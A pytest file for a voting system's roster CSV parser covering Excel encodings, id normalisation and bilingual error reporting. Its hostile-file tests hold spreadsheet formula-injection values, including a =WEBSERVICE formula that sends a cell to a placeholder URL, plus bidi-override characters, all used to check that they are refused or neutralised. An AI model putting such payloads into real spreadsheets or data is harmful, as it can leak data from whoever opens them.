"""The one roster parser (voting/roster_csv.py): Excel's CSV files as they are
saved on Japanese Windows (cp932), as "CSV UTF-8" (BOM), with trailing empty
columns, full-width ids and ids that lost their leading zeros; every wrong line
reported, in English and Japanese; `voting ca issue` and the election roll read
files alike."""

from __future__ import annotations

import string
import unicodedata
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from crypto.credentials import MAX_NAME_LENGTH
from voting import pki, roster_csv
from voting.elections.roll import parse_roll
from voting.web.i18n import catalogue

DATA = Path(__file__).resolve().parent / "data"


def codes(parsed: roster_csv.ParsedRoster) -> list[tuple[int, str]]:
    return [(e.line, e.code) for e in parsed.errors]


def rows(parsed: roster_csv.ParsedRoster) -> list[tuple[str, str, str]]:
    return [(r.employee_id, r.name, r.department) for r in parsed.rows]


# --- the committed files, as Excel writes them ------------------------------------------------


def test_a_cp932_file_from_excel_on_japanese_windows_is_read():
    data = (DATA / "roll_cp932.csv").read_bytes()
    with pytest.raises(UnicodeDecodeError):
        data.decode("utf-8")  # the file is really Shift_JIS; 髙 is one of cp932's own characters
    parsed = roster_csv.parse(data)
    assert parsed.ok and parsed.encoding == "cp932"
    assert rows(parsed) == [("E0001", "山田\u3000太郎", "総務課"), ("E0002", "佐藤 花子", "人事課"), ("E0003", "髙橋 一郎", "財政課")]


def test_a_cp932_roster_with_roles_is_read_by_ca_issue():
    entries = pki.parse_roster((DATA / "roster_cp932.csv").read_bytes())
    assert [(e.employee_id, e.name, e.role) for e in entries] == [
        ("E0001", "山田\u3000太郎", "voter"), ("E0002", "佐藤 花子", "voter"), ("A0001", "鈴木 次郎", "admin"),
    ]


def test_a_utf8_file_with_bom_is_read():
    parsed = roster_csv.parse((DATA / "roll_utf8_bom.csv").read_bytes())
    assert parsed.ok and parsed.encoding == "utf-8"
    assert rows(parsed)[0] == ("E0001", "山田 太郎", "総務課")


def test_trailing_empty_columns_and_lines_are_ignored():
    parsed = roster_csv.parse((DATA / "roll_trailing_columns.csv").read_bytes())
    assert parsed.ok, parsed.error_json()
    assert rows(parsed) == [("E0001", "山田 太郎", "総務課"), ("E0002", "佐藤 花子", ""), ("E0003", "田中 三郎", "財政課")]
    assert [r.line for r in parsed.rows] == [2, 3, 5]


def test_full_width_ids_become_ascii():
    parsed = roster_csv.parse((DATA / "roll_fullwidth_ids.csv").read_bytes())
    assert parsed.ok, parsed.error_json()
    assert [r.employee_id for r in parsed.rows] == ["E0001", "E0002", "01234"]


def test_ids_that_lost_their_leading_zeros_are_flagged_with_a_hint():
    parsed = roster_csv.parse((DATA / "roll_lost_zeros.csv").read_bytes())
    assert codes(parsed) == [(3, "lost_zeros"), (5, "lost_zeros")]
    error = parsed.errors[0]
    assert "leading zeros" in error.message and "text" in error.message
    assert "先頭の 0" in error.message_ja and "文字列" in error.message_ja
    # The roll already holding five-digit ids counts too.
    later = roster_csv.parse("職員番号,氏名,所属\n42,佐藤 花子,人事課\n".encode("cp932"), existing={"01234"})
    assert codes(later) == [(2, "lost_zeros")]


# --- refusals: every line, with its number, in both languages ---------------------------------


def test_every_wrong_line_is_reported_not_only_the_first():
    text = (
        "employee_id,name,department\n"
        "E0001,山田 太郎,総務課\n"
        "bad id!,誰か,人事課\n"
        "E0001,重複,総務課\n"
        "E0009,,財政課\n"
        f"E0010,{'長' * (MAX_NAME_LENGTH + 1)},財政課\n"
        "E0011,\u202e悪意,財政課\n"
        "E0012,普通,総務\x07課\n"
        "E0013,外字\ue000,総務課\n"
        "E0014,a,b,c\n"
        "E0002,既存,総務課\n"
    )
    parsed = roster_csv.parse(text.encode("utf-8"), existing={"E0002"})
    assert codes(parsed) == [
        (3, "id"), (4, "duplicate"), (5, "name"), (6, "name"), (7, "control"), (8, "control"),
        (9, "private_use"), (10, "fields"), (11, "on_roll"),
    ]
    assert [r.employee_id for r in parsed.rows] == ["E0001"]
    for error in parsed.error_json():
        assert error["error"] and error["error_ja"] and error["error"] != error["error_ja"]
    assert "U+202E" in parsed.errors[4].message and "at line 2" in parsed.errors[1].message


def test_one_name_limit_for_the_ca_and_the_roll():
    """The two parsers had drifted (64 and 200): a name the certificate cannot
    hold is refused by both, and a bidi override too."""
    for name in ("長" * (MAX_NAME_LENGTH + 1), "\u202e職員"):
        data = f"employee_id,name,department\nE0001,{name},総務課\n".encode()
        assert parse_roll(data, set()).errors
        with pytest.raises(pki.RosterError) as refused:
            pki.parse_roster(data)
        assert refused.value.errors[0]["line"] == 2
    fits = f"employee_id,name,department\nE0001,{'長' * MAX_NAME_LENGTH},総務課\n".encode()
    assert parse_roll(fits, set()).ok and len(pki.parse_roster(fits)) == 1


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"\xff\xfee\x00m\x00p\x00", "utf16"),
        (b"PK\x03\x04\x14\x00\x06\x00", "workbook"),
        (b"employee_id,name,department\nE0001,\x81\x20,x\n", "encoding"),
        (b"employee_id,name,department\nE0001,\x80x,y\n", "encoding"),
        (b"id,name\nE0001,x\n", "header"),
        (b"", "header"),
        (b"employee_id,name,department,role\nE0001,x,y,voter\n", "role_column"),
        (b'employee_id,name,department\nE0001,"x\n', "csv"),
    ],
)
def test_files_that_are_not_rosters_are_refused_with_a_clear_message(data, code):
    parsed = roster_csv.parse(data)
    assert codes(parsed)[0][1] == code and not parsed.rows
    message = parsed.errors[0].message
    if code in ("utf16", "workbook", "encoding"):
        assert "CSV UTF-8" in message and "「CSV UTF-8」" in parsed.errors[0].message_ja
    if code == "encoding":
        assert "UTF-8" in message and "cp932" in message and parsed.errors[0].line == 2


def test_the_header_may_be_japanese_or_english_and_the_role_is_optional():
    for header in ("職員番号,氏名,所属", "Employee_ID, Name ,DEPARTMENT", "ｅｍｐｌｏｙｅｅ＿ｉｄ,name,department"):
        assert rows(roster_csv.parse(f"{header}\nE0001,山田,総務課\n".encode("cp932"))) == [("E0001", "山田", "総務課")]
    parsed = roster_csv.parse("職員番号,氏名,所属,役割\nE0001,山田,総務課,ADMIN\nE0002,佐藤,人事課\nE0003,x,y,mayor\n".encode("cp932"), with_role=True)
    assert [(r.employee_id, r.role) for r in parsed.rows] == [("E0001", "admin"), ("E0002", "voter")]
    assert codes(parsed) == [(4, "role")]


def test_line_numbers_count_lines_of_the_file_even_with_quoted_newlines():
    parsed = roster_csv.parse(b'employee_id,name,department\n\nE0001,"two\nlines",x\nbad id,y,z\n')
    assert codes(parsed) == [(3, "control"), (5, "id")]


def test_every_message_of_the_roll_has_the_pages_text():
    messages = catalogue()
    for code in roster_csv.MESSAGES:
        if code != "role":  # a roll has no role column
            assert f"roll.err.{code}" in messages, code


# --- properties --------------------------------------------------------------------------------

ID_FIRST = string.ascii_letters + string.digits
ID_REST = ID_FIRST + "._-"
employee_ids = st.builds(lambda a, b: a + b, st.sampled_from("ABEK"), st.text(ID_REST, min_size=1, max_size=12))
# Names any Excel could hold, in both encodings: kana, kanji, ASCII letters and spaces.
cp932_chars = st.sampled_from("山田太郎花子佐藤髙橋﨑鈴木あいうアイウ　 ABCxyz・ー")
names = st.text(cp932_chars, min_size=1, max_size=MAX_NAME_LENGTH).map(str.strip).filter(bool)
departments = st.text(cp932_chars, max_size=20).map(str.strip)
rosters = st.lists(st.tuples(employee_ids, names, departments), min_size=1, max_size=20, unique_by=lambda r: r[0])


def to_full_width(text: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


@settings(max_examples=150, deadline=None)
@given(rosters, st.sampled_from(["utf-8", "utf-8-sig", "cp932"]), st.booleans(), st.integers(0, 3), st.booleans())
def test_any_roster_saved_any_way_excel_does_reads_back_the_same(roster, encoding, crlf, trailing, full_width):
    end = "\r\n" if crlf else "\n"
    lines = ["職員番号,氏名,所属" + "," * trailing]
    for employee_id, name, department in roster:
        shown_id = to_full_width(employee_id) if full_width else employee_id
        lines += [f"{shown_id},{name},{department}" + "," * trailing, "," * (2 + trailing)]
    parsed = roster_csv.parse(end.join(lines).encode(encoding) + end.encode())
    assert parsed.ok, parsed.error_json()
    assert rows(parsed) == [(i, n, d) for i, n, d in roster]
    assert parsed.encoding == ("cp932" if encoding == "cp932" and not all(c.isascii() for c in "".join(lines)) else "utf-8")


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=400))
def test_any_bytes_give_rows_or_line_errors_never_an_exception(data):
    parsed = roster_csv.parse(data, with_role=True)
    assert [e.line for e in parsed.errors] == sorted(e.line for e in parsed.errors)
    lines = data.count(b"\n") + data.count(b"\r") + 2
    assert all(1 <= e.line <= lines for e in parsed.errors)
    for error in parsed.errors:
        assert error.message and error.message_ja
    for row in parsed.rows:
        assert roster_csv.normalize_id(row.employee_id) == row.employee_id
        assert not any(unicodedata.category(c) in ("Cc", "Cf", "Co") for c in row.name + row.department)


@settings(max_examples=100, deadline=None)
@given(rosters, st.data())
def test_a_control_or_bidi_character_anywhere_in_a_name_refuses_that_line(roster, data):
    index = data.draw(st.integers(0, len(roster) - 1))
    bad = data.draw(st.sampled_from("\x00\x1b\u202e\u2066\u200f\u2028\ufeff"))
    employee_id, name, department = roster[index]
    at = data.draw(st.integers(0, len(name)))
    roster[index] = (employee_id, name[:at] + bad + name[at:], department)
    text = "employee_id,name,department\n" + "".join(f"{i},{n},{d}\n" for i, n, d in roster)
    parsed = roster_csv.parse(text.encode("utf-8"))
    assert codes(parsed) == [(index + 2, "control")]


@settings(max_examples=100, deadline=None)
@given(rosters)
def test_the_ca_and_the_roll_read_a_file_alike(roster):
    data = ("employee_id,name,department\n" + "".join(f"{i},{n},{d}\n" for i, n, d in roster)).encode("cp932")
    entries = pki.parse_roster(data)
    assert [(e.employee_id, e.name, e.department) for e in entries] == rows(parse_roll(data, set()))


# --- hostile or damaged files ------------------------------------------------------------------


@pytest.mark.parametrize("name", ["田中美咲", "松本", "伊藤健", "山口", "山田太郎"])
def test_a_utf8_file_with_one_cp932_line_is_refused_as_mixed_encodings(name):
    data = f"employee_id,name,department\n1001,{name},総務課\n".encode() + "1003,鈴木一郎,税務課\n".encode("cp932")
    parsed = roster_csv.parse(data)
    assert codes(parsed) == [(3, "mixed_encoding")] and not parsed.rows
    assert parsed.errors[0].params == {"utf8_lines": "2", "other_lines": "3"}
    assert "CSV UTF-8" in parsed.errors[0].message and "混在" in parsed.errors[0].message_ja


@pytest.mark.parametrize(
    ("cells", "column", "char"),
    [
        ('"=WEBSERVICE(""http://127.0.0.1:9/?""&E3)",総務課', "name", "="),
        ("+81 山田,総務課", "name", "+"),
        ("-山田,総務課", "name", "-"),
        ("佐藤花子,@SUM(1+1)", "department", "@"),
        ('佐藤花子," =1+1"', "department", "="),
        # Full-width signs (NFKC makes them = + - @): Japanese spreadsheets may take them for formulas.
        ("＝1+1,総務課", "name", "＝"),
        ("＋81 山田,総務課", "name", "＋"),
        ("佐藤花子,－1", "department", "－"),
        ("佐藤花子,＠SUM(1)", "department", "＠"),
    ],
)
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_refused(cells, column, char):
    parsed = roster_csv.parse(f"employee_id,name,department\n1001,{cells}\n1002,山田太郎,総務課\n".encode())
    assert codes(parsed) == [(2, "formula")]
    assert parsed.errors[0].params["column"] == column and repr(char) in parsed.errors[0].message
    assert "sign" in parsed.errors[0].message and "記号" in parsed.errors[0].message_ja


def test_the_pin_sheet_neutralises_formula_cells(tmp_path):
    from voting.pki import IssuedCredential, _append_pin_sheet

    entry = pki.RosterEntry("1001", '=WEBSERVICE("http://x/?"&E3)', "@SUM(1)", "voter")
    sheet = tmp_path / "pins.csv"
    issued = IssuedCredential(entry, tmp_path / "1001.credential.json", "123456", "01")
    _append_pin_sheet(sheet, [issued], datetime.now(UTC))
    row = sheet.read_text(encoding="utf-8").splitlines()[1]
    assert row.startswith("1001,\"'=WEBSERVICE(") and ",'@SUM(1)," in row


def test_the_pin_sheet_neutralises_full_width_formula_signs():
    assert [roster_csv.spreadsheet_cell(v) for v in ("＝1+1", "＠SUM(1)", "山田")] == ["'＝1+1", "'＠SUM(1)", "山田"]
